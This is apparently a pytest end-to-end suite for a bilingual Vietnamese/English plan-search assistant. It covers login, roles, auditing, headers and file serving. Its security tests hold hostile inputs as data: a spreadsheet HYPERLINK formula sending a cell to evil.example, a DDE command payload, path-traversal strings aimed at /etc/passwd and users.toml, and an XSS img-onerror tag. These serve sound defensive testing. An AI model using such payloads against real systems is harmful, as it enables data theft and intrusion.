"""The app end to end: a real server process, Debian's Chromium driven by Playwright, and gradio_client.

The app runs on a copy of the session's sample store, with a users file of one
admin and one reader. Screenshots go to the test's temp folder.
"""
from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from contextlib import contextmanager
from pathlib import Path

import pytest

from assistant.audit import AuditLog
from assistant.feedback import FeedbackStore
from assistant.users import add_user

CHROMIUM = "/usr/bin/chromium"
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
         "--disable-component-update", "--no-first-run"]
ADMIN, READER = ("lan", "admin-pass"), ("minh", "reader-pass")
APP_STORE: dict[str, Path] = {}  # the copied store the running app uses
PROJECT = Path(__file__).resolve().parents[1]


@pytest.fixture(scope="module")
def app_url(sample_store, tmp_path_factory):
    root = tmp_path_factory.mktemp("app")
    store = root / "store"
    shutil.copytree(sample_store, store)
    APP_STORE["path"] = store
    users = root / "users.toml"
    add_user(users, ADMIN[0], "admin", ADMIN[1])
    add_user(users, READER[0], "reader", READER[1])
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {**os.environ, "PLAN_ASSISTANT_USERS": str(users), "PLAN_ASSISTANT_EMBEDDING_THREADS": "2"}
    log = open(root / "app.log", "w")
    process = subprocess.Popen([sys.executable, str(PROJECT / "app.py"), "--store", str(store), "--port", str(port)],
                               cwd=PROJECT, env=env, stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}/"
    deadline = time.time() + 180
    while time.time() < deadline:
        try:
            urllib.request.urlopen(url, timeout=2)
            break
        except OSError:
            if process.poll() is not None:
                raise RuntimeError((root / "app.log").read_text())
            time.sleep(1)
    else:
        process.kill()
        raise RuntimeError("the app did not start in 180 s")
    yield url
    process.terminate()
    process.wait(timeout=30)
    log.close()


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    if not Path(CHROMIUM).exists():
        pytest.fail(f"{CHROMIUM} is missing: the test command installs Debian's chromium")
    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield chromium
        chromium.close()


@pytest.fixture
def shots(tmp_path):
    folder = tmp_path / "screenshots"
    folder.mkdir()
    return folder


def _login(browser, url, user):
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.goto(url)
    page.get_by_label("username").fill(user[0])
    page.get_by_label("password").fill(user[1])
    page.get_by_role("button", name="Login").click()
    page.wait_for_selector("#question textarea", timeout=60000)
    return page


def _ask(page, question):
    before = page.locator("#chat .message").count() if page.locator("#chat .message").count() else 0
    page.fill("#question textarea", question)
    page.click("#ask")
    page.wait_for_function(
        "n => document.querySelectorAll('#sources .source').length > 0 && "
        "document.querySelector('#question textarea').value === ''", arg=before, timeout=60000)
    page.wait_for_timeout(500)
    return page.inner_text("#chat"), page.inner_text("#sources")


def test_questions_in_english_and_vietnamese_show_the_answer_and_its_clause(browser, app_url, shots):
    page = _login(browser, app_url, READER)
    chat, sources = _ask(page, "Which agency leads Korean exchange in 2024?")
    assert "Hội Hữu nghị Việt Nam - Hàn Quốc tỉnh" in chat and "leads" in chat
    assert "Phụ lục › III › 7" in sources or "Phụ lục › III › 8" in sources
    assert "34/KH-UBND" in sources and "tr. 1" in sources
    assert page.locator("#sources mark").count() >= 1  # the supporting span is highlighted
    page.screenshot(path=str(shots / "chat-english.png"), full_page=True)

    chat, sources = _ask(page, "Ai chủ trì Tết cổ truyền Bun Pi May Lào ở Buôn Đôn?")
    assert "Hội hữu nghị Việt Nam - Lào tỉnh" in chat and "chủ trì" in chat
    assert "Phụ lục › III › 9" in sources
    chat, _ = _ask(page, "Thế còn thời gian?")  # a follow-up in the same conversation
    assert "Tháng 4/2024" in chat
    copied = page.input_value("#copy-answer textarea")
    assert "[1]" in copied and "Phụ lục › III › 9" in copied
    page.fill("#feedback-reason textarea", "đúng, cảm ơn")
    page.locator("#chat button[aria-label='Like']").last.click()
    page.wait_for_timeout(1500)
    rows = FeedbackStore(APP_STORE["path"] / "feedback.sqlite").rows()
    assert rows and rows[-1]["vote"] == "up" and rows[-1]["question"] == "Thế còn thời gian?"
    assert rows[-1]["reason"] == "đúng, cảm ơn" and rows[-1]["user"] == READER[0] and "III › 9" in rows[-1]["citations"]
    page.screenshot(path=str(shots / "chat-vietnamese.png"), full_page=True)
    page.close()


def test_a_reader_sees_no_admin_actions_and_the_server_refuses_them(browser, app_url, rendered):
    from gradio_client import Client, handle_file

    page = _login(browser, app_url, READER)
    page.get_by_role("tab", name="Kế hoạch").click()
    page.wait_for_timeout(1000)
    assert not page.locator("#upload").is_visible()
    page.close()
    client = Client(app_url, auth=READER, verbose=False)
    with pytest.raises(Exception, match="403 Forbidden"):  # refused at the raw upload route, kept nowhere
        client.predict([handle_file(str(rendered["kon-ray"]["pdf"]))], api_name="/upload")


def test_admin_uploads_a_pdf_and_its_answers_cite_pdf_pages(browser, app_url, rendered, shots):
    page = _login(browser, app_url, ADMIN)
    page.get_by_role("tab", name="Kế hoạch").click()
    page.locator("#upload input[type=file]").set_input_files(str(rendered["quang-ngai-2018"]["pdf"]))
    page.wait_for_timeout(1500)
    page.click("#ingest")
    page.wait_for_selector("#ingest-result :text('quang-ngai-2018')", timeout=180000)
    assert "✅" in page.inner_text("#ingest-result")
    page.screenshot(path=str(shots / "upload.png"), full_page=True)
    page.get_by_role("tab", name="Hỏi đáp").click()
    chat, sources = _ask(page, "Quảng Ngãi 2018 cử đoàn cán bộ đi học tập kinh nghiệm ở đâu?")
    assert "Myanmar" in chat
    assert "quang-ngai-2018-ke-hoach-ngoai-giao-van-hoa.pdf" in sources
    link = page.locator("#sources a").first.get_attribute("href")
    assert ".pdf#page=" in link
    page.close()


def test_tasks_filter_and_csv_download(browser, app_url, shots):
    page = _login(browser, app_url, READER)
    page.get_by_role("tab", name="Nhiệm vụ").click()
    page.fill("#task-agency textarea, #task-agency input", "Hàn Quốc")
    page.wait_for_timeout(2500)
    table = page.inner_text("#tasks")
    assert "Hội Hữu nghị Việt Nam - Hàn Quốc tỉnh" in table and "Sở Tài chính" not in table
    with page.expect_download(timeout=30000) as download:
        page.click("#tasks-csv")
    text = Path(download.value.path()).read_text(encoding="utf-8-sig")
    assert text.splitlines()[0].startswith("document,section,content,lead")
    assert len(text.splitlines()) >= 3 and "Hàn Quốc" in text
    # Written in the app's swept folder in the store, one file per distinct table, never in /tmp.
    exports = list((APP_STORE["path"] / "tmp").glob("*/exports/*/tasks.csv"))
    assert text in [e.read_text(encoding="utf-8-sig") for e in exports]
    assert len(exports) == len({e.read_bytes() for e in exports})
    page.screenshot(path=str(shots / "tasks.png"), full_page=True)
    page.close()


def test_the_ask_endpoint_returns_the_cli_json(app_url):
    from gradio_client import Client

    result = Client(app_url, auth=READER, verbose=False).predict("Sở Tài chính có trách nhiệm gì?", api_name="/ask")
    assert set(result) >= {"answer", "abstained", "citations", "retrieved", "latency_ms"}
    assert "Sở Tài chính" in result["answer"] and len(result["retrieved"]) >= 10
    assert all(c["quote"] in c["text"] for c in result["citations"])


def test_the_interface_is_vietnamese_and_switches_to_english(browser, app_url):
    page = _login(browser, app_url, READER)
    assert page.inner_text("#ask").strip() == "Hỏi"
    assert page.get_by_role("tab", name="Nhiệm vụ").is_visible()
    page.get_by_label("English").check()
    page.wait_for_function("document.querySelector('#ask').innerText.trim() === 'Ask'", timeout=10000)
    assert page.get_by_label("Question").is_visible()
    chat, _ = _ask(page, "Sở Tài chính có trách nhiệm gì?")  # answers follow the question's language
    assert "Theo từng kế hoạch" in chat and "Sở Tài chính" in chat
    page.close()


# -- access over HTTP ------------------------------------------------------------------------------

@contextmanager
def _session(app_url, user):
    import httpx

    with httpx.Client(base_url=app_url, timeout=60) as client:
        assert client.post("/login", data={"username": user[0], "password": user[1]}).status_code == 200
        yield client


def test_no_endpoint_answers_without_a_session(app_url):
    import httpx

    kept = APP_STORE["path"] / "files"
    with httpx.Client(base_url=app_url, timeout=30) as anonymous:
        gets = ["/config", "/gradio_api/info", "/gradio_api/openapi.json", "/gradio_api/queue/status",
                "/gradio_api/heartbeat/abc", "/gradio_api/queue/data?session_hash=x", "/gradio_api/call/ask/x",
                "/monitoring", f"/gradio_api/file={kept}/anything.txt"]
        for path in gets:
            assert anonymous.get(path).status_code == 401, path
        posts = ["/gradio_api/call/ask", "/gradio_api/run/ask", "/gradio_api/queue/join", "/gradio_api/upload",
                 "/gradio_api/call/upload", "/gradio_api/call/delete", "/gradio_api/call/feedback",
                 "/gradio_api/cancel", "/gradio_api/component_server"]
        for path in posts:
            response = anonymous.post(path, json={"data": ["Sở Tài chính có trách nhiệm gì?"], "fn_index": 0,
                                                  "session_hash": "x", "event_id": "x"})
            assert response.status_code == 401, path
        login = anonymous.post("/login", data={"username": READER[0], "password": "wrong"})
        assert login.status_code == 401 and not anonymous.cookies


# What the app would tell a stranger: its endpoints, its plans, its settings.
APP_WORDS = ("gradio_api_info", "gradio_config", "named_endpoints", "/ask", "reindex", "upload", "feedback",
             "gia-lai", "Gia Lai", "dak-lak", "Hàn Quốc", "Sở Tài chính", "embeddinggemma", "admin")


def test_before_login_the_page_and_everything_it_loads_say_nothing_of_the_app(browser, app_url, shots):
    import re

    import httpx

    page = browser.new_page()
    loaded = []
    page.on("request", lambda request: loaded.append(request.url))
    page.goto(app_url)
    page.wait_for_load_state("networkidle")
    page.screenshot(path=str(shots / "login.png"), full_page=True)
    assert page.locator("input").count() == 2 and page.locator("button").count() == 1
    assert page.inner_text("body").split() == "Đăng nhập / Log in Tên đăng nhập / username Mật khẩu / password " \
        "Đăng nhập / Login".split()
    with _session(app_url, READER) as reader:  # the assets Gradio's own page loads, once logged in
        assets = re.findall(r'(?:src|href)="(?:\./|/)?((?:assets|static|svelte|gradio_api)/[^"]+)"',
                            reader.get("/").text)
    assert assets
    gradio_paths = ["config", "gradio_api/info", "gradio_api/openapi.json", "theme.css", "favicon.ico",
                    "manifest.json", "gradio_api/startup-events", "login_check", "gradio_api/login_check",
                    "gradio_api/user", "gradio_api/app_id", "gradio_api/token", *assets]
    with httpx.Client(timeout=30) as anonymous:
        for url in [*dict.fromkeys(loaded), *(app_url + path for path in gradio_paths)]:
            response = anonymous.get(url)
            said = [word for word in APP_WORDS if word in response.text]
            assert not said, (url, said)
            if url.rstrip("/") != app_url.rstrip("/"):
                assert response.status_code == 401, url
    assert all(url.startswith(app_url) for url in loaded) and set(loaded) <= {app_url, app_url + "favicon.ico"}

    page.get_by_label("username").fill(READER[0])
    page.get_by_label("password").fill("not-the-password")
    page.get_by_role("button", name="Login").click()
    page.wait_for_selector("#message:has-text('Wrong user name or password')", timeout=10000)
    page.get_by_label("password").fill(READER[1])
    page.get_by_role("button", name="Login").click()
    page.wait_for_selector("#question textarea", timeout=60000)
    page.close()


def test_every_response_forbids_framing_and_other_sites(app_url):
    key = "gia-lai-ke-hoach-ngoai-giao-van-hoa-2030"
    evil = {"Host": "plans.office.gov.vn", "Origin": "https://evil.example"}  # the real-host-name case
    with _session(app_url, ADMIN) as admin:
        for path in ("/", "/config", "/gradio_api/info", "/login"):
            headers = admin.get(path).headers
            assert headers["x-frame-options"] == "DENY", path
            assert headers["content-security-policy"] == "frame-ancestors 'none'", path
            assert headers["x-content-type-options"] == "nosniff" and headers["referrer-policy"] == "same-origin"
        assert "access-control-allow-origin" not in admin.get("/config", headers=evil).headers
        preflight = admin.options("/gradio_api/call/reindex", headers={**evil, "Access-Control-Request-Method": "POST"})
        assert "access-control-allow-origin" not in preflight.headers
        before = len(AuditLog.of_store(APP_STORE["path"]).rows())
        assert admin.post("/gradio_api/call/reindex", json={"data": [key]}, headers=evil).status_code == 403
        time.sleep(1)
        assert [r for r in AuditLog.of_store(APP_STORE["path"]).rows()[before:] if r["action"] == "reindex"] == []


def test_a_login_sets_one_session_cookie_and_logins_are_audited(app_url):
    import httpx

    httpx.post(app_url + "login", data={"username": "nobody-here", "password": "a-guess-1234"})
    response = httpx.post(app_url + "login", data={"username": READER[0], "password": READER[1]})
    assert response.status_code == 200
    [cookie] = response.headers.get_list("set-cookie")
    assert "HttpOnly" in cookie and "SameSite=lax" in cookie and "Max-Age=43200" in cookie
    assert "Secure" not in cookie  # PLAN_ASSISTANT_COOKIE_SECURE=true behind TLS
    rows = [(r["action"], r["user"], r["address"], r["result"]) for r in AuditLog.of_store(APP_STORE["path"]).rows()]
    assert ("failed login", "nobody-here", "127.0.0.1", "unknown user") in rows
    assert ("failed login", READER[0], "127.0.0.1", "wrong password") in rows
    assert rows[-1] == ("login", READER[0], "127.0.0.1", "ok")


def test_readers_cannot_reindex_delete_or_read_feedback(app_url):
    from gradio_client import Client

    client = Client(app_url, auth=READER, verbose=False)
    for args, endpoint in [(("gia-lai-ke-hoach-ngoai-giao-van-hoa-2030",), "/reindex"),
                           (("gia-lai-ke-hoach-ngoai-giao-van-hoa-2030",), "/delete"), ((), "/feedback")]:
        with pytest.raises(Exception, match="Admins only"):
            client.predict(*args, api_name=endpoint)
    assert (APP_STORE["path"] / "plans" / "gia-lai-ke-hoach-ngoai-giao-van-hoa-2030.json").exists()


def test_the_feedback_export_quotes_what_a_spreadsheet_would_run(app_url):
    import csv

    from gradio_client import Client

    question, reason = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm")', "=cmd|' /C calc'!A0"
    FeedbackStore(APP_STORE["path"] / "feedback.sqlite").add({"question": question, "answer": "x", "citations": []},
                                                             liked=False, reason=reason, user=READER[0])
    exported = Client(app_url, auth=ADMIN, verbose=False).predict(api_name="/feedback")
    rows = list(csv.DictReader(Path(exported).read_text(encoding="utf-8-sig").splitlines()))
    assert rows[-1]["question"] == "'" + question and rows[-1]["reason"] == "'" + reason


def test_admin_actions_and_refusals_are_in_the_audit_log_admins_download(app_url):
    import csv

    from gradio_client import Client

    key = "gia-lai-ke-hoach-ngoai-giao-van-hoa-2030"
    admin = Client(app_url, auth=ADMIN, verbose=False)
    admin.predict(key, api_name="/reindex")
    with pytest.raises(Exception, match="Admins only"):
        Client(app_url, auth=READER, verbose=False).predict(key, api_name="/delete")
    with pytest.raises(Exception, match="Admins only"):
        Client(app_url, auth=READER, verbose=False).predict(api_name="/audit")
    rows = list(csv.DictReader(Path(admin.predict(api_name="/audit")).read_text(encoding="utf-8-sig").splitlines()))
    done = [(r["user"], r["address"], r["action"], r["target"], r["result"]) for r in rows]
    assert (ADMIN[0], "127.0.0.1", "reindex", key, "ok") in done
    assert (READER[0], "127.0.0.1", "delete", key, "refused: not an admin") in done
    assert (READER[0], "127.0.0.1", "export", "audit.csv", "refused: not an admin") in done
    assert (APP_STORE["path"] / "plans" / f"{key}.json").exists()


def test_file_serving_never_leaves_the_kept_originals(app_url):
    store = APP_STORE["path"]
    with _session(app_url, ADMIN) as admin:
        inside = next((store / "files").iterdir(), None)
        if inside is not None:
            assert admin.get(f"/gradio_api/file={inside}").status_code == 200
        for outside in ["/etc/passwd", f"{store}/feedback.sqlite", f"{store}/files/../feedback.sqlite",
                        f"{store}/files/%2e%2e/store.json", f"{store}/plans/gia-lai-ke-hoach-ngoai-giao-van-hoa-2030.json",
                        f"{PROJECT}/app.py", f"{store}/files/../../users.toml"]:
            assert admin.get(f"/gradio_api/file={outside}").status_code in (403, 404), outside


def test_an_upload_over_the_size_limit_is_refused_while_it_arrives(app_url):
    with _session(app_url, ADMIN) as admin:
        too_big = b"%PDF-1.4\n" + b"\0" * (101 * 2**20)  # the default limit is 100 MB
        response = admin.post("/gradio_api/upload", files={"files": ("big.pdf", too_big, "application/pdf")})
        assert response.status_code == 413


def test_markup_in_a_plan_is_shown_as_text_never_run(browser, app_url, shots):
    from gradio_client import Client, handle_file

    hostile = PROJECT / "tests" / "fixtures" / "hostile-plan.txt"
    result = Client(app_url, auth=ADMIN, verbose=False).predict([handle_file(str(hostile))], api_name="/upload")
    assert "✅" in result[0]
    page = _login(browser, app_url, READER)
    alerts = []
    page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
    chat, sources = _ask(page, "Ai chủ trì Hội chợ ẩm thực đường phố của huyện Thử Nghiệm?")
    assert "Phòng Văn hóa và Thông tin huyện" in chat
    assert '<img src=x onerror="window.__pwned = 2">' in sources  # the markup, as text
    page.get_by_role("tab", name="Nhiệm vụ").click()
    page.fill("#task-agency textarea, #task-agency input", "Phòng Văn hóa và Thông tin huyện")
    page.wait_for_timeout(2500)
    assert "<img src=x" in page.inner_text("#tasks")
    page.get_by_role("tab", name="Kế hoạch").click()
    page.wait_for_timeout(1000)
    page.screenshot(path=str(shots / "hostile-markup.png"), full_page=True)
    assert page.evaluate("window.__pwned") is None and not alerts
    assert page.locator("#sources img, #chat img[src='x'], #tasks img").count() == 0
    page.close()
